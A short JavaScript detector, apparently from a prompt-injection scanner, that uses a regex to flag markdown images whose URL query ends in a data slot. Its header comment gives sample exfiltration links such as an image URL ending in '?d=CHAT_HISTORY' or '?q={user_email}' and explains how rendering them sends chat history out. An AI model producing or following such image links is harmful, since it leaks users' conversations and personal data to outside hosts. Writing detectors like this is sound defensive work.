// @ts-check
// A markdown image whose URL ends in a slot for data — "![t](https://host/p.gif?d=CHAT_HISTORY)",
// "?v=VERLAUF", "?q={user_email}" — asked for in a prompt: once the reply renders the
// image, the filled-in data leaves with the request. Read on the original text, because the slot's
// tell is often its case (an upper-case name), which the normalised views fold away. Language-neutral.

// The last query value: an upper-case name of five letters or more (CHAT_LOG, HISTORICO) or a
// template ({x}, {{x}}, [X], <x>, $X, ${x}), also one that describes the data in words in any
// language ("{the user's last message}", "[correo del usuario]"); later parameters may follow. Lower-case values and words of other scripts are
// ordinary search terms and settings (?style=flat, ?q=東京); the packs judge those with their words.
const SLOT =
  /!\[[^\]\n]{0,60}\]\(\s{0,2}<?https?:\/\/[^\s)<>]{1,200}?[?&][\w.-]{1,20}=(?:\p{Lu}[\p{Lu}\d]{4,30}(?:_[\p{Lu}\d]{1,30}){0,6}|\p{Lu}{2,4}(?:_[\p{Lu}\d]{1,30}){1,6}|\{\{?[\w.-]{1,40}\}\}?|\[[\w-]{2,40}\]|<[\w-]{2,40}>|\$\{?\w{2,40}\}?|\{[^{}\n]{2,120}\}|\[[^[\]\n]{2,120}\])(?:&[^\s)<>]{0,200}?|&[\w.-]{1,20}=(?:\{[^{}\n]{2,120}\}|\[[^[\]\n]{2,120}\])){0,4}\s{0,2}>?\)/gu;

/**
 * The images of a text whose URL ends in a slot for data.
 * @param {string} text
 * @returns {Array<{ start: number, end: number }>}
 */
export function imageSlots(text) {
  if (!text.includes('![')) return [];
  return [...text.matchAll(SLOT)].map((m) => ({ start: m.index ?? 0, end: (m.index ?? 0) + m[0].length }));
}
